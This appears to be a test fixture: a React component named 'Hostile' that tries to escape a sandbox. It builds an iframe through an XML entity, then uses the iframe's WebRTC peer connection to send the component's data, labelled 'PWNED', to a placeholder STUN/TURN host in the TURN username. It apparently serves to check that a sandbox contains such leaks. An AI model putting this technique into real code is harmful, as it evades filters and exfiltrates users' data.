import { useEffect } from "react";

// Escape attempt: webrtc_xml_entity — an XML entity that expands to a frame, so no tag appears in the markup
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_xml_entity-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const xml = '<!DOCTYPE x [<!ENTITY f "&#60;iframe xmlns=&#34;http://www.w3.org/1999/xhtml&#34;/&#62;">]><x>&f;</x>';
      const parsed = new DOMParser().parseFromString(xml, "application/xml");
      const frame = document.importNode(parsed.documentElement.firstChild, true);
      document.body.appendChild(frame);
      const Peer = frame.contentWindow.RTCPeerConnection;
      const pc = new Peer(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_xml_entity</p>;
}
